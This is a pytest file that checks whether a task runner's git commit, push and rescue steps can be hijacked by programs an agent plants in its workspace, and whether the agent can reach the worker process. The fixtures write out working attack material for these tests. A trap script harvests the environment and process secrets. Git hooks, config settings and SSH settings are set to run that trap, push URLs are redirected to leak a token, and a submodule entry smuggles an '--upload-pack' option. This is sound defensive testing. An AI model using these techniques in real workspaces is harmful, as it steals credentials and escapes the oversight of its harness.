"""Programs that an agent may plant in its workspace, so that a later git command would run them with access to secrets."""

from __future__ import annotations

import shlex
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest
from helpers.git import GitSetup, git_at, git_setup
from helpers.worker import WorkerSetup, agent, agent_user, worker_setup
from standins.git_process import environment, run_git
from standins.githttp import TOKEN, GitHttp
from standins.gitssh import GitSsh, key_pair, needs_ssh
from standins.repos import Repository

from ccrun.process.user import User
from ccrun.spec import GitAction, GitToken, PostRunActions, UploadAction
from ccrun.task import Secret, Status

__all__ = ["agent", "agent_user", "git_setup", "worker_setup"]
pytestmark = needs_ssh

KEY_BODY: Final = key_pair().openssh.splitlines()[2]
#: See githooks(5).
HOOKS: Final = (
    *("applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg"),
    *("commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update"),
    *("proc-receive", "post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc"),
    *("post-rewrite", "sendemail-validate", "fsmonitor-watchman", "post-index-change"),
)
#: Settings that make git run a program, directly or indirectly. `TRAP` is replaced by the path of a script.
SETTINGS: Final = (
    "core.fsmonitor=TRAP",
    "core.sshCommand=TRAP",
    "core.gitProxy=TRAP",
    "core.editor=TRAP",
    "sequence.editor=TRAP",
    "core.pager=TRAP",
    "core.askPass=TRAP",
    "core.alternateRefsCommand=TRAP",
    "credential.helper=TRAP",
    "commit.gpgSign=true",
    "gpg.program=TRAP",
    "gpg.ssh.program=TRAP",
    "filter.hostile.clean=TRAP",
    "filter.hostile.smudge=TRAP",
    "filter.hostile.process=TRAP",
    "diff.hostile.textconv=TRAP",
    "diff.hostile.command=TRAP",
    "diff.external=TRAP",
    "merge.hostile.driver=TRAP",
    "remote.origin.receivepack=TRAP",
    "remote.origin.uploadpack=TRAP",
    "remote.origin.vcs=hostile",
    "uploadpack.packObjectsHook=TRAP",
    "interactive.diffFilter=TRAP",
    "trailer.hostile.command=TRAP",
    "alias.add=!TRAP",
    "alias.commit=!TRAP",
    "alias.push=!TRAP",
    "alias.rev-parse=!TRAP",
    "browser.hostile.cmd=TRAP",
    "protocol.ext.allow=always",
    "submodule.recurse=true",
    "status.submoduleSummary=true",
)


def planting_script(trap: Path, server: str) -> str:
    """Return a script that plants traps in the current directory and in HOME, and fails if any command fails."""
    configure = "\n".join(
        f'git -C "$1" config {name} "{value.replace("TRAP", str(trap))}"'
        for name, _, value in (setting.partition("=") for setting in SETTINGS)
    )
    hooks = "\n".join(f'cp {trap} "$1/.git/hooks/{name}"' for name in HOOKS)
    return f"""
set -e
export PATH=/usr/bin:/bin
plant() {{
  mkdir -p "$1/.git/hooks"
  {hooks}
  {configure}
  printf '* filter=hostile diff=hostile merge=hostile\\n' >>"$1/.git/info/attributes" || true
}}
mkdir -p .git/info
# A nested repository.
git init -q nested; mkdir -p nested/.git/info
git -C nested -c user.name=a -c user.email=a@b commit -q --allow-empty -m a
# The home directory.
mkdir -p ~/.ssh ~/bin ~/.config/git
printf '[core]\\n\\tfsmonitor = {trap}\\n\\tsshCommand = {trap}\\n[credential]\\n\\thelper = {trap}\\n' >~/.gitconfig
cp ~/.gitconfig ~/.config/git/config
printf 'Host *\\n  ProxyCommand {trap}\\n  LocalCommand {trap}\\n  PermitLocalCommand yes\\n' >~/.ssh/config
printf 'machine 127.0.0.1 login a password b\\n' >~/.netrc
for name in git ssh ssh-agent ssh-add cp cat setpriv; do cp {trap} ~/bin/$name; cp {trap} ./$name; done
# Other URLs of the remote. A push that uses them sends the secret to another server.
git config remote.origin.pushurl http://127.0.0.1:9/other.git
git config url.http://127.0.0.1:9/.insteadOf {server}
git config include.path ~/.gitconfig
printf '* filter=hostile diff=hostile merge=hostile\\n' >.gitattributes
echo new >a.txt
plant nested
plant .
mkdir -p .git/worktrees/hostile; echo {trap} >.git/worktrees/hostile/gitdir
"""


@pytest.fixture
def trap_dir() -> Iterator[Path]:
    """A directory with the trap and the reports of its runs, to which any user may write."""
    directory = Path(tempfile.mkdtemp(prefix="ccrun-trap-"))
    directory.chmod(0o755)
    (directory / "reports").mkdir()
    (directory / "reports").chmod(0o1777)
    trap = directory / "trap"
    trap.write_text(
        f"""#!/bin/bash
{{ echo "$0 $*"; id -u; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; \
grep -rs . /tmp/ccrun-*/ /tmp/ws-*/ 2>/dev/null | head -c 1000000; }} >{directory}/reports/$BASHPID.$RANDOM 2>&1
cat 2>/dev/null
"""
    )
    trap.chmod(0o755)
    yield directory
    shutil.rmtree(directory)


def trap_reports(trap_dir: Path) -> dict[str, str]:
    """Return the report of each run of the trap."""
    return {path.name: path.read_text(errors="replace") for path in (trap_dir / "reports").iterdir()}


@pytest.fixture
async def repository(git_setup: GitSetup) -> Repository:
    """A repository with attributes that apply the hostile drivers to all files."""
    return await git_setup.repos.create(
        "demo", {"a.txt": "old", ".gitattributes": "* filter=hostile diff=hostile merge=hostile\n"}
    )


ALL_ACTIONS: Final = PostRunActions(
    git=GitAction(commit=True, push=True), upload_files=UploadAction(glob_patterns=("**", ".git/**", "**/.git/**"))
)


@pytest.mark.parametrize(("protocol", "moved"), [("ssh", True), ("http", False), ("http", True)])
async def test_post_run_actions_run_no_planted_program(
    worker_setup: WorkerSetup,
    git_setup: GitSetup,
    repository: Repository,
    trap_dir: Path,
    agent: Callable[..., Any],
    agent_user: User | None,
    protocol: str,
    moved: bool,
) -> None:
    """Neither commit, rebase nor push runs one, over SSH or HTTP, and the commit reaches the server of the request."""
    async with GitSsh(git_setup.repos) as ssh, GitHttp(git_setup.repos) as http:
        access: dict[str, Any] = (
            {"git_repo": ssh.url("demo"), "ssh_key": Secret(key_pair().openssh)}
            if protocol == "ssh"
            else {"git_repo": http.url("demo"), "git_token": GitToken.parse(TOKEN)}
        )
        script = agent(planting_script(trap_dir / "trap", access["git_repo"].rpartition("/")[0]))

        async def move_branch(command: str) -> None:
            if moved and "receive-pack" in command and len(await repository.log("main")) == 1:
                await repository.commit({"a.txt": "remote"})

        def cli() -> Path:
            ssh.before = http.before = move_branch
            return Path(script())

        await worker_setup.submit(
            **access,
            post_execution_actions=ALL_ACTIONS,
            # The PATH comes from the request, so an attacker may control it.
            environment_secrets={"PATH": Secret("./:../home/bin:/usr/bin:/bin"), "SECRET_ONE": Secret("made-up-value")},
        )
        # The traps do not concern the start of the CLI: the script sets a PATH with the tools of the system only.
        record = await worker_setup.run(cli=cli, agent_user=agent_user)
        assert (Status.COMPLETED, None) == (record.status, record.error)
        assert record.git_commit is not None
        assert record.git_commit.pushed, record.action_errors
        assert b"new\n" == (await repository.files("main"))["a.txt"]
        assert {} == trap_reports(trap_dir)
        if protocol == "http":
            assert {None, ("x-access-token", TOKEN)} == {request.credential for request in http.requests}
    for file in record.uploaded_files or ():
        assert ".git/" not in file.original_path


async def test_traps_detect_git_without_protection(
    git_setup: GitSetup, repository: Repository, trap_dir: Path, tmp_path: Path
) -> None:
    """`add`, `commit` and `push` in such a clone, with the token in the environment, reveal it to a trap."""
    async with GitHttp(git_setup.repos) as server:
        clone = tmp_path / "clone"
        await git_at(tmp_path / "home")("clone", "--quiet", f"file://{repository.path}", str(clone))
        script = tmp_path / "plant"
        script.write_text(planting_script(trap_dir / "trap", server.base))
        clean = environment(HOME=str(tmp_path / "agent"), PATH="/usr/bin:/bin")
        process = await run_git("-C", str(clone), "-c", f"alias.plant=!bash {script}", "plant", env=clean)
        assert 0 == process.code, process.stderr
        unprotected = environment(HOME=str(tmp_path / "agent"), PATH="/usr/bin:/bin", GIT_TOKEN=TOKEN)
        for arguments in (("add", "-A"), ("commit", "-qm", "x"), ("push", "-q", server.url("demo"), "HEAD:main")):
            await run_git("-C", str(clone), *arguments, env=unprotected)
    reports = trap_reports(trap_dir)
    assert len(reports) >= 3
    assert any(TOKEN in text for text in reports.values())


async def test_rescue_runs_no_planted_program(
    worker_setup: WorkerSetup,
    git_setup: GitSetup,
    repository: Repository,
    trap_dir: Path,
    agent: Callable[..., Any],
    agent_user: User | None,
) -> None:
    """The patch of a failed task is created with the same protection as a commit."""
    async with GitSsh(git_setup.repos) as server:
        script = planting_script(trap_dir / "trap", server.url("demo").rpartition("/")[0])
        await worker_setup.submit(git_repo=server.url("demo"), ssh_key=Secret(key_pair().openssh))
        record = await worker_setup.run(cli=agent(script, last="exit 1"), agent_user=agent_user)
    assert Status.FAILED == record.status
    assert ["rescue.patch"] == [file.original_path for file in record.uploaded_files or ()]
    assert {} == trap_reports(trap_dir)


async def test_submodule_with_an_option_as_its_name_is_not_pushed(
    worker_setup: WorkerSetup,
    git_setup: GitSetup,
    repository: Repository,
    trap_dir: Path,
    agent: Callable[..., Any],
    agent_user: User | None,
) -> None:
    """Its name, URL or update command would run a program in later clones. The changes are rescued."""
    trap = trap_dir / "trap"
    module = f'[submodule "--upload-pack={trap}"]\n\tpath = -sub\n\turl = --upload-pack={trap}\n\tupdate = !{trap}\n'
    async with GitSsh(git_setup.repos) as server:
        access = {"git_repo": server.url("demo"), "ssh_key": Secret(key_pair().openssh)}
        await worker_setup.submit(
            **access, post_execution_actions=PostRunActions(git=GitAction(commit=True, push=True))
        )
        script = agent(f"printf {shlex.quote(module)} >.gitmodules; echo new >a.txt")
        record = await worker_setup.run(cli=script, agent_user=agent_user)
    [error] = record.action_errors
    assert error.error.startswith("The agent's commit has objects that must not be pushed: ")
    assert "gitmodules" in error.error
    assert b"old" == (await repository.files("main"))["a.txt"]
    assert ["rescue.patch"] == [file.original_path for file in record.uploaded_files or ()]
    assert {} == trap_reports(trap_dir)


async def test_agent_cannot_access_the_worker(
    worker_setup: WorkerSetup, git_setup: GitSetup, repository: Repository, agent: Callable[..., Any], trap_dir: Path
) -> None:
    """A separate user has no access to the worker's memory, environment and files, and cannot signal it."""
    import asyncio
    import os

    from ccrun.process.user import find_user
    from ccrun.worker.git.run import SYSTEM_PATH

    if os.geteuid() != 0:
        pytest.skip("only root may start processes as another user")
    user = await asyncio.to_thread(find_user, "61238", SYSTEM_PATH)
    pid = os.getpid()
    script = f"""
head -c 1 /proc/{pid}/environ >/dev/null 2>&1 && echo environ >>{trap_dir}/reports/report
head -c 1 /proc/{pid}/mem >/dev/null 2>&1 && echo memory >>{trap_dir}/reports/report
ls /proc/{pid}/fd >/dev/null 2>&1 && echo files >>{trap_dir}/reports/report
kill -0 {pid} 2>/dev/null && echo kill >>{trap_dir}/reports/report
ls /tmp/ws-*.* >/dev/null 2>&1 && echo directories >>{trap_dir}/reports/report
[ "$(id -u)" = {user.uid} ] && echo "as {user.uid}" >>{trap_dir}/reports/report
"""
    async with GitSsh(git_setup.repos) as server:
        await worker_setup.submit(
            git_repo=server.url("demo"), ssh_key=Secret(key_pair().openssh), post_execution_actions=ALL_ACTIONS
        )
        await worker_setup.run(cli=agent(script), agent_user=user)
    assert {"report": f"as {user.uid}\n"} == trap_reports(trap_dir)
